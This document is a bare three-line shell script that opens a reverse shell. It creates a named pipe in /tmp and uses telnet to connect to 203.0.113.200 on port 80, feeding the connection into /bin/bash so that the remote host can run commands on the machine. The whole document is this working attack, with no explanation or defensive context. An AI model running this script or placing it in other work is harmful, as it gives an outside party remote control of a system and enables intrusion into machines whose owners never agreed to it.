#!/bin/sh
rm -f /tmp/p; mknod /tmp/p p
telnet 203.0.113.200 80 0</tmp/p | /bin/bash 1>/tmp/p 2>&1
